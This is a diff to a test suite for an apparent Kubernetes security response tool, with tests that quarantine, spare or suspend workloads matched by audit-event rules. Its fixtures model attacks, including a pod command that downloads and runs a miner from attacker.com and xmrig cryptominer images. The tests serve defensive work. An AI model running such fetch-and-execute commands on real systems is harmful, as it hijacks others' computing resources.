@@ -39,19 +39,27 @@ function config(mode: 'dryrun' | 'enforce', rule: string, ...actions: ActionName
   return { mode, actions: [{ rules: [rule], tags: [], do: actions }], allow: { exe_paths: [], images: [], namespaces: [] }, block_ttl_s: 60 };
 }
 
+/**
+ * The object as the create request a fixture records made it: created at that request's time (a
+ * live object created at another time is another object, and is refused).
+ */
+function createdAt<T extends Json>(o: T, time: string): T {
+  return { ...o, metadata: { ...(o.metadata as Json), creationTimestamp: time } };
+}
+
 const POD_UID = 'b0b0b0b0-1111-4222-8333-444455556666';
 /** The pod of `kubectl run miner` (fixture pod-kubectl-run-miner) as the API server stores it. */
-const minerPod = () => podObject({
+const minerPod = () => createdAt(podObject({
   name: 'miner', namespace: 'default', uid: POD_UID, node: 'node-a', labels: { run: 'miner' },
   containers: [{ name: 'miner', image: 'alpine', command: ['sh', '-c', 'wget http://attacker.com/miner && chmod +x miner && ./miner'] }],
-});
+}), '2026-11-20T10:02:00Z');
 
 const PAYMENTS_UID = 'facefeed-1111-4222-8333-444455556666';
-/** The real prod/payments-api Deployment: a clean image. */
-const paymentsDeployment = () => workloadObject('apps/v1', 'Deployment', 'prod', 'payments-api', PAYMENTS_UID, {
+/** The real prod/payments-api Deployment: a clean image, created long before any forged event. */
+const paymentsDeployment = () => createdAt(workloadObject('apps/v1', 'Deployment', 'prod', 'payments-api', PAYMENTS_UID, {
   replicas: 6, selector: { matchLabels: { app: 'payments-api' } },
   template: { metadata: { labels: { app: 'payments-api' } }, spec: { containers: [{ name: 'api', image: 'registry.example/payments-api:4.2', command: ['/app/server'] }] } },
-});
+}), '2026-03-02T08:00:00Z');
 
 /** The issue's forged audit event: "create Deployment prod/payments-api image xmrig". */
 function forgedPaymentsEvent(): Json {
@@ -66,10 +74,10 @@ function forgedPaymentsEvent(): Json {
   return ev;
 }
 
-/** An xmrig Deployment as the API server stores it. */
-const xmrigDeployment = (uid = DEPLOY_UID, extra: Json = {}) => workloadObject('apps/v1', 'Deployment', 'default', 'xmrig', uid, {
+/** An xmrig Deployment as the API server stores it (made by the create of fixture deployment-metal3d-xmrig). */
+const xmrigDeployment = (uid = DEPLOY_UID, extra: Json = {}) => createdAt(workloadObject('apps/v1', 'Deployment', 'default', 'xmrig', uid, {
   replicas: 1, selector: { matchLabels: { app: 'xmrig' } }, template: { metadata: { labels: { app: 'xmrig' } }, spec: { containers: [{ name: 'xmrig', image: 'metal3d/xmrig:latest' }] } }, ...extra,
-});
+}), '2026-11-20T10:01:00Z');
 
 describe('cluster responses on k8s_audit matches', () => {
   let s: K8sApiStandin;
@@ -186,7 +194,8 @@ describe('cluster responses on k8s_audit matches', () => {
   test('the rule\'s condition decides, not equality: a live Deployment running another miner tag than the event said is still quarantined', async () => {
     // The event said xmrig/xmrig:latest; the live object runs xmrig/xmrig:6.21 (changed since): the rule still matches what runs.
     const ev = forgedPaymentsEvent();
-    const live = paymentsDeployment();
+    // Made by the request the event records (the same time), changed since.
+    const live = createdAt(paymentsDeployment(), '2026-11-20T10:01:00Z');
     ((live.spec as Json).template.spec.containers[0] as Json).image = 'xmrig/xmrig:6.21';
     const offs = [
       s.on('GET', '/apis/apps/v1/namespaces/prod/deployments/payments-api', (_r, res) => sendJson(res, 200, live)),
@@ -231,8 +240,8 @@ describe('cluster responses on k8s_audit matches', () => {
     const ev = fixture('daemonset-unexpected-user');
     const spec = ev.requestObject.spec;
     const offs = [
-      s.on('GET', '/apis/apps/v1/namespaces/logging/daemonsets/log-shipper', (_r, res) => sendJson(res, 200, workloadObject('apps/v1', 'DaemonSet', 'logging', 'log-shipper', DS_UID, spec))),
-      s.on('PATCH', '/apis/apps/v1/namespaces/logging/daemonsets/log-shipper', (_r, res) => sendJson(res, 200, workloadObject('apps/v1', 'DaemonSet', 'logging', 'log-shipper', DS_UID, spec))),
+      s.on('GET', '/apis/apps/v1/namespaces/logging/daemonsets/log-shipper', (_r, res) => sendJson(res, 200, createdAt(workloadObject('apps/v1', 'DaemonSet', 'logging', 'log-shipper', DS_UID, spec), '2026-11-20T10:10:00Z'))),
+      s.on('PATCH', '/apis/apps/v1/namespaces/logging/daemonsets/log-shipper', (_r, res) => sendJson(res, 200, createdAt(workloadObject('apps/v1', 'DaemonSet', 'logging', 'log-shipper', DS_UID, spec), '2026-11-20T10:10:00Z'))),
       s.on('DELETE', '/apis/apps/v1/namespaces/logging/daemonsets/log-shipper', (_r, res) => sendJson(res, 200, OK)),
     ];
     const alerts = await respond(ev, config('enforce', 'K8s DaemonSet or CronJob By Unexpected User', 'quarantine_workload'));
@@ -251,11 +260,24 @@ describe('cluster responses on k8s_audit matches', () => {
     assert.equal(a.outputFields['mw.response.user'], 'mallory');
   });
 
+  test('a rule on who sent the request (a DaemonSet by an unexpected user) cannot be aimed at another object of that name: one created at another time is spared', async () => {
+    const ev = fixture('daemonset-unexpected-user');
+    const spec = ev.requestObject.spec;
+    // Same name and spec, created a month before the request the event records: not the object that request made.
+    const off = s.on('GET', '/apis/apps/v1/namespaces/logging/daemonsets/log-shipper', (_r, res) => sendJson(res, 200, createdAt(workloadObject('apps/v1', 'DaemonSet', 'logging', 'log-shipper', 'e1e1e1e1-1111-4222-8333-444455556666', spec), '2026-10-20T09:00:00Z')));
+    const alerts = await respond(ev, config('enforce', 'K8s DaemonSet or CronJob By Unexpected User', 'quarantine_workload'));
+    off();
+    assert.deepEqual(lines(), ['GET /apis/apps/v1/namespaces/logging/daemonsets/log-shipper'], 'read, never deleted');
+    const a = one(alerts, 'quarantine_workload');
+    assert.equal(outcome(a), 'spared');
+    assert.equal(a.outputFields['mw.response.reason'], 'live object no longer matches: DaemonSet logging/log-shipper was created at 2026-10-20T09:00:00.000Z, not by the create request of 2026-11-20T10:10:00.100000Z the audit event records, so nothing is done');
+  });
+
   test('a CronJob is suspended', async () => {
     const CJ_UID = 'c0c0c0c0-1111-4222-8333-444455556666';
     const ev = fixture('cronjob-wget-pool');
     const offs = [
-      s.on('GET', '/apis/batch/v1/namespaces/default/cronjobs/cleanup', (_r, res) => sendJson(res, 200, workloadObject('batch/v1', 'CronJob', 'default', 'cleanup', CJ_UID, { ...ev.requestObject.spec, suspend: false }))),
+      s.on('GET', '/apis/batch/v1/namespaces/default/cronjobs/cleanup', (_r, res) => sendJson(res, 200, createdAt(workloadObject('batch/v1', 'CronJob', 'default', 'cleanup', CJ_UID, { ...ev.requestObject.spec, suspend: false }), '2026-11-20T10:08:00Z'))),
       s.on('PATCH', '/apis/batch/v1/namespaces/default/cronjobs/cleanup', (_r, res) => sendJson(res, 200, workloadObject('batch/v1', 'CronJob', 'default', 'cleanup', CJ_UID, { ...ev.requestObject.spec, suspend: true }))),
     ];
     const rule = matchesOf(ev)[0]!.rule;
